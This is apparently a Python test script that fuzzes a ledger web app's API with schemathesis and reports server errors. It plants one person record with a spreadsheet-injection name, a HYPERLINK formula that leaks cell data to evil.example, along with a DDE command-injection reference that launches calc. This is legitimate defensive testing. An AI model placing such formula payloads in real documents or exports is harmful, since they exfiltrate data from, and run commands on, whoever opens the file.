"""A bounded schemathesis run over the OpenAPI document, in-process (WSGI), as finance: every
phase this schemathesis supports (examples, coverage, fuzzing, stateful) against a small demo
book on SQLite. Fails, listing them, on any 5xx answer. `make schemathesis`;
`python tests/schemathesis_run.py [--max-time SECONDS] [--max-examples N] [--seed N]`.

Every answer passes through a WSGI wrapper that records each 5xx (method, path, status, the
first line of the body), so a server error counts however schemathesis classifies the case;
schemathesis itself checks only `not_a_server_error`: the aim is no 500 for any input, not
conformance to every documented shape.
"""
from __future__ import annotations

import argparse
import secrets
import sys
import tempfile
import warnings
from collections import Counter


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--max-time", type=int, default=150, help="seconds for the whole run (default 150)")
    parser.add_argument("--max-examples", type=int, default=10, help="cases per operation and phase (default 10)")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--people", type=int, default=5)
    args = parser.parse_args(argv)

    warnings.simplefilter("ignore")
    from isf_ledger import create_app

    with tempfile.TemporaryDirectory(prefix="isf-schemathesis-") as folder:
        app = create_app({"DATABASE_URL": f"sqlite:///{folder}/ledger.db", "SECRET_KEY": secrets.token_urlsafe(32)})
        return run(app, args)


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click me") Łukasz O’Brien–Дмитрий \x07'
# Path parameters drawn, half the time, from the records the demo book holds (else ids would be
# nearly all 404s): table, column.
KNOWN = {"person_id": ("people", "id"), "council_id": ("councils", "id"), "arrangement_id": ("shared_arrangements", "id"),
         "delivery_id": ("deliveries", "id"), "spend_id": ("spend", "id"), "transaction_id": ("transactions", "id"),
         "membership_id": ("shared_memberships", "id"), "month": ("account_months", "month")}


def known_values(app) -> tuple[dict, dict]:
    import sqlalchemy as sa

    from isf_ledger.db import db

    dictionaries, parameters = {}, {}
    with app.app_context():
        for name, (table, column) in KNOWN.items():
            values = db.session.execute(sa.text(f"SELECT DISTINCT {column} FROM {table} ORDER BY {column} DESC "
                                                "LIMIT 20")).scalars().all()
            values = [v if isinstance(v, int) else str(v)[:7] for v in values]
            if values:
                dictionaries[name] = {"values": sorted(set(values))}
                parameters[f"path.{name}"] = {"dictionary": name, "probability": 0.5}
        db.session.remove()
    return dictionaries, parameters


def run(app, args) -> int:
    import schemathesis
    from schemathesis.config import SchemathesisConfig
    from schemathesis.engine import events, from_schema

    runner = app.test_cli_runner()
    for cmd in (["db", "upgrade"], ["demo", "--people", str(args.people), "--months", "3", "--seed", "1"]):
        result = runner.invoke(args=cmd)
        assert result.exit_code == 0, (cmd, result.output)
    result = runner.invoke(args=["users", "create", "--name", "schemathesis-finance", "--role", "finance"])
    assert result.exit_code == 0, result.output
    token = result.output.split()[-1]
    # Someone whose name is hostile to every document and workbook (domain.md "Names and text").
    r = app.test_client().post("/api/v1/people", json={"name": HOSTILE_NAME, "council": "Northshire",
                                                      "council_reference": "+cmd|' /C calc'!A0"},
                               headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 201, r.get_json()
    dictionaries, parameters = known_values(app)

    server_errors: list[tuple[str, str, str, str]] = []
    statuses: Counter = Counter()
    inner = app.wsgi_app

    def recording(environ, start_response):
        seen = {}

        def start(status, headers, exc_info=None):
            seen["status"] = status
            return start_response(status, headers, exc_info)

        body = b"".join(inner(environ, start))
        statuses[seen.get("status", "?")[:1] + "xx"] += 1
        if seen.get("status", "200")[:1] == "5":
            server_errors.append((environ["REQUEST_METHOD"], environ.get("PATH_INFO", ""),
                                  seen["status"], body[:300].decode("utf-8", "replace")))
        return [body]

    app.wsgi_app = recording
    causes: Counter = Counter()

    def cause(sender, exception, **extra):  # what raised, where: for the owner of the code
        import traceback

        frame = traceback.extract_tb(exception.__traceback__)[-1]
        causes[f"{type(exception).__name__}: {str(exception)[:120]} at {frame.filename.split('/site-packages/')[-1]}"
               f":{frame.lineno}"] += 1

    from flask import got_request_exception

    got_request_exception.connect(cause, app)

    checks = {"enabled": False, "not_a_server_error": {"enabled": True}}
    generation = {"max-examples": args.max_examples, "no-shrink": True, "database": "none"}
    # Each phase gets its share of the time, so that a slow one never leaves the later ones unrun.
    shares = {"examples": 0.15, "coverage": 0.35, "fuzzing": 0.3, "stateful": 0.2}
    for name, share in shares.items():
        config = SchemathesisConfig.from_dict({
            "seed": args.seed, "max-time": max(1, int(args.max_time * share)),
            "headers": {"Authorization": f"Bearer {token}"}, "generation": generation, "checks": checks,
            "dictionaries": dictionaries, "parameters": parameters,
            "phases": {phase: ({"enabled": True, "max-steps": 20} if phase == "stateful" else {"enabled": True})
                       if phase == name else {"enabled": False} for phase in shares},
        })
        schema = schemathesis.openapi.from_wsgi("/api/v1/openapi.json", app, config=config)
        before, scenarios, status, stop = sum(statuses.values()), 0, "not run", None
        for event in from_schema(schema).execute():
            if isinstance(event, events.PhaseFinished) and event.phase.name.value == name:
                status = event.status.value
            elif isinstance(event, (events.ScenarioFinished, events.FuzzScenarioFinished)):
                scenarios += 1
            elif isinstance(event, events.FatalError):
                print("schemathesis stopped:", event.exception, file=sys.stderr)
                return 2
            elif isinstance(event, events.EngineFinished):
                stop = getattr(event, "stop_reason", None)
        print(f"{name}: {status}, {scenarios} scenarios, {sum(statuses.values()) - before} requests"
              f"{' (time limit)' if stop == 'max_time' else ''}", flush=True)
    print(f"in all: {sum(statuses.values())} requests {dict(sorted(statuses.items()))}, "
          f"{len(server_errors)} server errors")
    by_place = Counter((m, p, s) for m, p, s, _ in server_errors)
    for (method, path, status), n in sorted(by_place.items()):
        first = next(b for m, p, s, b in server_errors if (m, p, s) == (method, path, status))
        print(f"5xx: {status} {method} {path} (x{n}): {first.splitlines()[0] if first else ''}")
    for text, n in causes.most_common():
        print(f"cause (x{n}): {text}")
    return 1 if server_errors else 0


if __name__ == "__main__":
    sys.exit(main())
